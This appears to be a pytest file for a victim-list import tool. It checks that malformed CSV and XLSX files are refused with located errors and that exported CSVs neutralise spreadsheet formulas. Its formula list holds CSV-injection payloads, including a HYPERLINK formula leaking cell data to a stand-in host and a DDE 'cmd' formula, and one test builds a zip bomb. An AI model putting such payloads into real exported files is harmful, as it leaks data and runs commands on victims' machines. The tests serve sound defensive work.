"""Malformed victim lists are refused whole with one located error; linkage CSVs are safe
to open in a spreadsheet (issue 20; review findings M5, M6, M7, L8).

Every malformed file goes through the library (:func:`read_list`) and through the CLI
(``dalil lists import``), which must answer ``error [input.invalid] file:row...`` on one
line, exit 2 and store nothing. Hypothesis feeds the reader random bytes and random grids
of cells: the outcome is a complete import or a located error, never anything else.
"""

from __future__ import annotations

import csv
import io
import re
import zipfile
from pathlib import Path

import pytest
from click.testing import CliRunner
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from dalil.cli import cli, main
from dalil.config import Settings
from dalil.errors import InvalidInput, NotFound
from dalil.intake import fields
from dalil.intake.victim_lists import Limits, ListInvalid, read_list
from dalil.linkage import service
from dalil.linkage.outputs import (
    from_spreadsheet_cell,
    spreadsheet_cell,
    write_captures,
    write_clusters,
)
from dalil.records import cases
from dalil.workspace import Workspace

GOOD = "record_id,full_name,age\nR1,Ali Hasan,34\nR2,Omar Dib,30-35\n"


def _xlsx(rows: list[list[object]]) -> bytes:
    from openpyxl import Workbook

    book = Workbook()
    sheet = book.active
    assert sheet is not None
    for row in rows:
        sheet.append(row)
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


def _zip(members: dict[str, bytes]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as z:
        for name, data in members.items():
            z.writestr(name, data)
    return out.getvalue()


# (file name, content, where the error must point, what it must say). Each one was either
# imported wrongly (rows lost or misread) or ended in a traceback before this change.
MALFORMED: list[tuple[str, bytes, str, str]] = [
    # M6: the unclosed quote swallowed R2 into R1's name
    ("unclosed.csv", b'record_id,full_name\nR1,"unclosed quote name\nR2,Bob\n', "unclosed.csv:2",
     "unclosed quote"),
    ("q-mid.csv", b'record_id,full_name\nR1,Ali\nQ-2,"Rami Haddad,M,41\nR3,Bob\n', "q-mid.csv:3",
     "unclosed quote"),
    ("stray.csv", b'record_id,full_name\nR1,"Ali" Hasan\n', "stray.csv:2", "after a closing quote"),
    # a quote closed later: the name would hold a line break and the next row
    ("broken.csv", b'record_id,full_name\nR1,"Ali\nR2,Bob"\n', "broken.csv:2:full_name",
     "line break"),
    # M7: tracebacks from the sniffer and the csv module
    ("extra.csv", b"record_id,full_name\nR1,Ali,extra,cols\nR2,Bob\n", "extra.csv:2",
     "4 cells but 2 columns"),
    ("x2.csv", b"record_id,full_name,sex,age\nX-2,Rami Haddad,M,41,extra,cells\n", "x2.csv:2",
     "6 cells but 4 columns"),
    ("short.csv", b"record_id,full_name,sex\nR1,Ali,M\nR2,Bob\n", "short.csv:3",
     "2 cells but 3 columns"),
    ("onecol.csv", b"record_id\nR1\n", "onecol.csv:1", "missing required column(s) full_name"),
    ("weird.csv", b"record_id full_name\nR1 Ali\n", "weird.csv:1", "missing required column"),
    ("bigcell.csv", b"record_id,full_name\nR1," + b"x" * 200_000 + b"\n", "bigcell.csv:2",
     "longer than the limit of 100000 characters"),
    ("longcell.csv", b"record_id,full_name\nR1," + b"x" * 100_001 + b"\n",
     "longcell.csv:2:full_name", "100001 characters, more than the limit of 100000"),
    # headers
    ("dup.csv", b"record_id,full_name,full_name\nR1,Ali,A\n", "dup.csv:1",
     "column 3 is named like column 2"),
    ("noname.csv", b"record_id,,full_name\nR1,x,Ali\n", "noname.csv:1", "column 2 has no name"),
    ("trailing.csv", b"record_id,full_name,\nR1,Ali,\n", "trailing.csv:1", "column 3 has no name"),
    # bytes
    ("nul.csv", b"record_id,full_name\nR1,A\x00li\n", "nul.csv:2", "NUL"),
    ("nul16.csv", "record_id,full_name\nR1,A\x00li\n".encode("utf-16"), "nul16.csv:2", "NUL"),
    ("undecodable.csv", b"record_id,full_name\nR1,Jos\xe9\n\nR2,\x81x\n", "undecodable.csv:4",
     "unreadable text encoding"),
    ("bom8.csv", b"\xef\xbb\xbfrecord_id,full_name\nR1,\xff\xfe\n", "bom8.csv:2",
     "byte-order mark"),
    ("bom16.csv", b"\xff\xfer\x00e\x00\x00\xd8", "bom16.csv:1", "byte-order mark"),
    ("empty.csv", b"", "empty.csv", "the file is empty"),
    ("blank.csv", b"\r\n\n , \n", "blank.csv", "the file is empty"),
    ("headonly.csv", b"record_id,full_name\n", "headonly.csv:2", "no rows"),
    # L8: values misread
    ("negage.csv", b"record_id,full_name,age\nR1,Ali,-5\n", "negage.csv:2:age",
     "not an age in years"),
    ("expage.csv", b"record_id,full_name,age\nR1,Ali,1e3\n", "expage.csv:2:age",
     "not an age in years"),
    # XLSX: L8's wide row, and damaged workbooks
    ("wide.xlsx", _xlsx([["record_id", "full_name"], ["R1", "Ali"], ["R2", "Bob", "extra"]]),
     "wide.xlsx:3", "3 cells but 2 columns"),
    ("xdup.xlsx", _xlsx([["record_id", "full_name", "record_id"], ["R1", "Ali", "x"]]),
     "xdup.xlsx:1", "column 3 is named like column 1"),
    ("xgap.xlsx", _xlsx([["record_id", None, "full_name"], ["R1", "x", "Ali"]]), "xgap.xlsx:1",
     "column 2 has no name"),
    ("xage.xlsx", _xlsx([["record_id", "full_name", "age"], ["R1", "Ali", -5]]),
     "xage.xlsx:2:age", "not an age"),
    ("notzip.xlsx", b"PK\x03\x04 this is not a zip archive", "notzip.xlsx",
     "not a readable XLSX workbook"),
    ("csv.xlsx", GOOD.encode(), "csv.xlsx", "not a readable XLSX workbook"),
    ("nobook.xlsx", _zip({"hello.txt": b"not a workbook"}), "nobook.xlsx",
     "not a readable XLSX workbook"),
]  # fmt: skip


def _located(err: InvalidInput, where: str, what: str) -> None:
    assert err.path is not None
    assert err.path == where or err.path.startswith(f"{where}:"), (err.path, err.message)
    assert what in err.message, err.message
    assert "Traceback" not in err.message and "/" not in (err.path or "")


@pytest.mark.parametrize(
    ("name", "data", "where", "what"), MALFORMED, ids=[m[0] for m in MALFORMED]
)
def test_malformed_list_is_one_located_error(
    tmp_path: Path, name: str, data: bytes, where: str, what: str
) -> None:
    f = tmp_path / name
    f.write_bytes(data)
    with pytest.raises(InvalidInput) as info:
        read_list(f)
    _located(info.value, where, what)
    if isinstance(info.value, ListInvalid):
        assert info.value.problems == []  # one problem: one line


def test_malformed_lists_through_the_cli_store_nothing(
    settings: Settings,
    tmp_path: Path,
    capsys: pytest.CaptureFixture[str],
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    """``dalil lists import`` on every malformed file: exit 2, one line naming the file and
    row, no traceback, no list stored; then a good file imports."""
    monkeypatch.delenv("DALIL_DEBUG", raising=False)
    if settings.database_url:
        monkeypatch.setenv("DALIL_DATABASE_URL", settings.database_url)
    else:
        monkeypatch.delenv("DALIL_DATABASE_URL", raising=False)
    home = str(settings.home)
    Workspace.create(settings).close()
    created = CliRunner().invoke(cli, ["--home", home, "case", "create", "Lists"])
    assert created.exit_code == 0, created.output
    files = tmp_path / "in"
    files.mkdir()
    for name, data, where, what in MALFORMED:
        f = files / name
        f.write_bytes(data)
        with pytest.raises(SystemExit) as exit_info:
            main(["--home", home, "lists", "import", "Lists", str(f), "--source", name])
        err = capsys.readouterr().err.strip()
        assert exit_info.value.code == 2, (name, err)
        assert err.startswith(f"error [input.invalid] {where}"), (name, err)
        assert what in err and "\n" not in err and "Traceback" not in err, (name, err)
        assert str(tmp_path) not in err
    good = files / "good.csv"
    good.write_text(GOOD, encoding="utf-8")
    done = CliRunner().invoke(
        cli, ["--home", home, "lists", "import", "Lists", str(good), "--source", "ngo"]
    )
    assert done.exit_code == 0, done.output
    with Workspace.open(settings) as ws, ws.session() as s:
        case_id = cases.find_case(s, "Lists").id
        assert [v.source for v in service.lists(s, case_id)] == ["ngo"]
        assert len(service.case_rows(s, case_id)) == 2


def test_several_problems_are_all_listed_under_the_first(tmp_path: Path) -> None:
    f = tmp_path / "many.csv"
    f.write_text("record_id,full_name,age\nR1,Ali,-5\nR2,Bob,1,x\nR3,,1e3\n", encoding="utf-8")
    with pytest.raises(ListInvalid) as info:
        read_list(f)
    assert info.value.path == "many.csv:2:age" and "1 of 4 problems" in info.value.message
    assert info.value.problems == [
        "many.csv:2:age: not an age in years (write e.g. 34, ٣٤, 30-35 or '8 months')",
        "many.csv:3: 4 cells but 3 columns",
        "many.csv:4:full_name: empty full_name",
        "many.csv:4:age: not an age in years (write e.g. 34, ٣٤, 30-35 or '8 months')",
    ]


def test_size_limits_come_from_the_settings(tmp_path: Path) -> None:
    f = tmp_path / "big.csv"
    f.write_text(GOOD + "R3," + "x" * 3000 + ",34\n", encoding="utf-8")
    with pytest.raises(InvalidInput) as info:
        read_list(f, limits=Limits(max_bytes=2048, max_cell_chars=100_000))
    _located(info.value, "big.csv", "more than the import limit of 2048")
    with pytest.raises(InvalidInput) as info:
        read_list(f, limits=Limits(max_bytes=10_000, max_cell_chars=2000))
    _located(info.value, "big.csv:4:full_name", "3000 characters, more than the limit of 2000")
    # a limit above the csv module's own (131072) still reads a cell that fits it
    f.write_text("record_id,full_name\nR1," + "y" * 150_000 + "\n", encoding="utf-8")
    long_ok = read_list(f, limits=Limits(max_cell_chars=200_000))
    assert len(long_ok.rows[0].values["full_name"]) == 150_000
    limits = Limits.of(Settings(max_import_bytes=4096, max_text_chars=500))
    assert (limits.max_bytes, limits.max_cell_chars) == (4096, 500)
    # an XLSX whose members unpack beyond the limit (a zip bomb) is refused before opening
    bomb = tmp_path / "bomb.xlsx"
    bomb.write_bytes(_zip({"xl/worksheets/sheet1.xml": b"<" * 300_000}))
    assert bomb.stat().st_size < 5000
    with pytest.raises(InvalidInput) as info:
        read_list(bomb, limits=Limits(max_bytes=100_000))
    _located(info.value, "bomb.xlsx", "unpacks to 300")


def test_legitimate_forms_still_import(tmp_path: Path) -> None:
    """What the stricter reader must keep reading: semicolon and tab files, quoted cells
    with commas and doubled quotes, CRLF and CR line ends, a multi-line note in an unmapped
    column, spaces after delimiters, an XLSX with padding, blank lines."""
    cases_ = {
        "semi.csv": 'record_id;full_name;age\nR1;"Hasan, Ali";٣٤\nR2;Omar "Abu Ali" Dib;30-35\n',
        "tab.csv": "record_id\tfull_name\tage\nR1\tHasan, Ali\t34\nR2\tOmar\t~30\n",
        "crlf.csv": 'record_id,full_name,age\r\nR1,"Hasan, Ali",34\r\n\r\n'
        'R2,"Omar ""Abu Ali""",8 months\r\n',
        "cr.csv": "record_id,full_name,age\rR1,Hasan,34\rR2,Omar,\r",
        "notes.csv": 'record_id,full_name,notes\nR1,Ali,"seen at\nthe market"\n'
        'R2, "Omar, Dib",x\n',
    }  # fmt: skip
    for name, text in cases_.items():
        f = tmp_path / name
        f.write_text(text, encoding="utf-8", newline="")
        parsed = read_list(f)
        assert [r.values["record_id"] for r in parsed.rows] == ["R1", "R2"], name
    notes = read_list(tmp_path / "notes.csv")
    assert notes.rows[0].raw["notes"] == "seen at\nthe market"
    assert notes.rows[1].values["full_name"] == "Omar, Dib"
    assert read_list(tmp_path / "semi.csv").rows[0].values["full_name"] == "Hasan, Ali"
    x = tmp_path / "padded.xlsx"
    x.write_bytes(
        _xlsx([["record_id", "full_name", "age"], ["R1", "Ali"], [], ["R2", "Bob", 41.0]])
    )
    parsed = read_list(x)
    assert [(r.row_number, r.values.get("age")) for r in parsed.rows] == [(2, ""), (4, "41")]


# -- L8: ages ----------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("text", "age"),
    [("34", 34), ("٣٤", 34), ("34 years", 34), ("~34", 34), ("about 34", 34),
     ("حوالي ٣٤ سنة", 34), ("30-40", 35), ("30 to 35", 32), ("0.5", 0), ("8 months", 0),
     ("18 أشهر", 1), ("41.0", 41), ("", None), ("unknown", None), ("-", None)],
)  # fmt: skip
def test_age_forms_that_are_read(text: str, age: int | None) -> None:
    assert fields.parse_age(text) == age


@pytest.mark.parametrize(
    "text", ["-5", "1e3", "+5", "1.5e3", "1 2 3", "200", "40-30", "5 kg", "34?", "0x10", "3-"]
)
def test_age_junk_is_refused_not_misread(text: str) -> None:
    with pytest.raises(ValueError, match="not an age in years"):
        fields.parse_age(text)


# -- M5: spreadsheet-safe outputs -------------------------------------------------------------

FORMULAS = [
    '=HYPERLINK("http://evil.example/leak?"&B2,"open")',
    "@SUM(1)",
    "+1+1",
    "-2+3",
    "\t=1",
    "\r=1",
    '=cmd|"/c calc"!A1',
    "'=already quoted",
    "'Abd al-Rahman",
    "plain",
]


def _cells(path: Path) -> list[list[str]]:
    with path.open(encoding="utf-8", newline="") as fh:
        return list(csv.reader(fh))


def test_outputs_neutralise_formulas_and_read_back_exactly(tmp_path: Path) -> None:
    for text in FORMULAS:
        cell = spreadsheet_cell(text)
        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), text
        assert from_spreadsheet_cell(cell) == text
    members = {f"P{i:06d}": [(src, f"id{i}")] for i, src in enumerate(FORMULAS)}
    members["P999999"] = [("ngo", rid) for rid in FORMULAS]
    clusters = tmp_path / "clusters.csv"
    write_clusters(clusters, members)
    rows = _cells(clusters)
    assert rows[0] == ["source", "record_id", "cluster_id"]
    for row in rows:
        for cell in row:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), row
    assert sorted(from_spreadsheet_cell(r[0]) for r in rows[1 : len(FORMULAS) + 1]) == sorted(
        FORMULAS
    )
    assert {from_spreadsheet_cell(r[1]) for r in rows if r[2] == "P999999"} == set(FORMULAS)
    captures = tmp_path / "captures.csv"
    write_captures(captures, FORMULAS[:3], {"a": (1, 0, 1), "b": (1, 0, 1), "c": (0, 1, 0)})
    caps = _cells(captures)
    assert [from_spreadsheet_cell(c) for c in caps[0]] == [*FORMULAS[:3], "count"]
    assert not any(c.startswith(("=", "+", "-", "@")) for c in caps[0])
    assert caps[1:] == [["1", "0", "1", "2"], ["0", "1", "0", "1"]]  # numbers untouched


def test_the_estimate_reader_takes_a_neutralised_captures_file(tmp_path: Path) -> None:
    """captures.csv is what ``dalil estimate CAPTURES.csv`` reads (through
    :func:`dalil.estimate.captures.read_csv`): with neutralised list names it reads the same
    table as with plain names, and the names come back exactly through
    :func:`from_spreadsheet_cell`."""
    from dalil.estimate.captures import read_csv

    histories = {f"p{i}": (i % 2, int(i % 3 == 0), int(i % 5 != 0)) for i in range(1, 90)}
    histories = {k: v for k, v in histories.items() if any(v)}
    tables = []
    for names in (["=cmd|' calc'!A1", "@lists", "+plus"], ["a", "b", "c"]):
        caps = tmp_path / f"captures-{names[1]}.csv"
        write_captures(caps, names, histories)
        tables.append(read_csv(caps))
    hostile, plain = tables
    assert hostile.observed() == plain.observed() and hostile.n == plain.n == len(histories)
    assert [from_spreadsheet_cell(x) for x in hostile.lists] == [
        "=cmd|' calc'!A1",
        "@lists",
        "+plus",
    ]


# -- Hypothesis: any input, a complete import or a located error ------------------------------

_LOCATED = re.compile(r"(fuzz|grid)\d+\.(csv|xlsx)(:\d+(:.+)?)?", re.S)


def _import_or_refuse(ws: Workspace, case_id: str, f: Path, n: int) -> list[str] | None:
    """Import ``f`` under a new source; the stored record ids, or None if refused. Checks
    that a refusal is located and stores nothing, and that an import stores every row."""
    with ws.session() as s:
        before = len(service.lists(s, case_id)), len(service.case_rows(s, case_id))
    try:
        parsed = read_list(f)
    except InvalidInput as err:
        assert err.path and _LOCATED.fullmatch(err.path), err.path
        with ws.session() as s:
            after = len(service.lists(s, case_id)), len(service.case_rows(s, case_id))
        assert after == before
        return None
    with ws.session() as s:
        service.import_list(s, case_id, f"src{n}", parsed, "t")
    with ws.session() as s:
        after = len(service.lists(s, case_id)), len(service.case_rows(s, case_id))
        assert after == (before[0] + 1, before[1] + len(parsed.rows))
    return [r.values["record_id"] for r in parsed.rows]


_counter = iter(range(10**9))


@settings(
    max_examples=100,
    deadline=None,
    database=None,
    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow],
)
@given(
    data=st.one_of(
        st.binary(max_size=300),
        st.builds(
            lambda tail: b"record_id,full_name,age\n" + tail,
            st.binary(max_size=200)
            | st.lists(
                st.sampled_from([b"R1", b"R2", b",", b'"', b"\n", b"\r", b"Ali", b"-5", b"34",
                                 b"\x00", b"\xff", b"\xd9\x85", b";", b"\t", b" "]),
                max_size=40,
            ).map(b"".join),
        ),
    )
)  # fmt: skip
def test_any_bytes_import_whole_or_are_refused_with_a_location(
    ws: Workspace, tmp_path: Path, data: bytes
) -> None:
    with ws.session() as s:
        try:
            case_id = cases.find_case(s, "Fuzz").id
        except NotFound:
            case_id = cases.create_case(s, "Fuzz", actor="t").id
    n = next(_counter)
    f = tmp_path / f"fuzz{n}.csv"
    f.write_bytes(data)
    _import_or_refuse(ws, case_id, f, n)


_CELL = st.text(
    st.characters(blacklist_categories=("Cs",)), max_size=12
)  # any character but a lone surrogate


@settings(
    max_examples=100,
    deadline=None,
    database=None,
    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow],
)
@given(
    extra=st.lists(_CELL, max_size=3),
    grid=st.lists(st.lists(_CELL, min_size=5, max_size=5), min_size=1, max_size=6),
    encoding=st.sampled_from(["utf-8", "utf-8-sig", "utf-16"]),
)
def test_any_grid_written_as_csv_reads_back_exactly_or_is_refused(
    tmp_path: Path, extra: list[str], grid: list[list[str]], encoding: str
) -> None:
    """A spreadsheet's CSV export of any cells: the reader gives back every row exactly
    (cells trimmed of spaces) or refuses the file with a located error."""
    header = ["record_id", "full_name", *extra]
    rows = [r[: len(header)] for r in grid]
    text = io.StringIO()
    csv.writer(text).writerows([header, *rows])
    n = next(_counter)
    f = tmp_path / f"grid{n}.csv"
    f.write_bytes(text.getvalue().encode(encoding))
    try:
        parsed = read_list(f)
    except InvalidInput as err:
        assert err.path and _LOCATED.fullmatch(err.path), err.path
        return
    expected = [[c.strip() for c in r] for r in rows]
    expected = [r for r in expected if any(r)]
    columns = [h.strip() for h in header]
    assert [[r.raw[h] for h in columns] for r in parsed.rows] == expected


_WORKBOOK = _xlsx([["record_id", "full_name", "age"], ["R1", "Ali", 34], ["R2", "Bob", "30-35"]])


@settings(max_examples=60, deadline=None, database=None)
@given(
    cut=st.integers(0, len(_WORKBOOK)),
    flips=st.lists(st.tuples(st.integers(0, len(_WORKBOOK) - 1), st.integers(0, 255)), max_size=4),
)
def test_any_damaged_workbook_reads_whole_or_is_refused(
    tmp_path_factory: pytest.TempPathFactory, cut: int, flips: list[tuple[int, int]]
) -> None:
    """An XLSX cut short or with bytes changed: both rows, or a located refusal."""
    data = bytearray(_WORKBOOK if flips else _WORKBOOK[:cut])
    for at, value in flips:
        if at < len(data):
            data[at] = value
    f = tmp_path_factory.mktemp("x") / f"fuzz{next(_counter)}.xlsx"
    f.write_bytes(bytes(data))
    try:
        parsed = read_list(f)
    except InvalidInput as err:
        assert err.path and _LOCATED.fullmatch(err.path), err.path
        return
    assert [r.values["record_id"] for r in parsed.rows] == ["R1", "R2"]
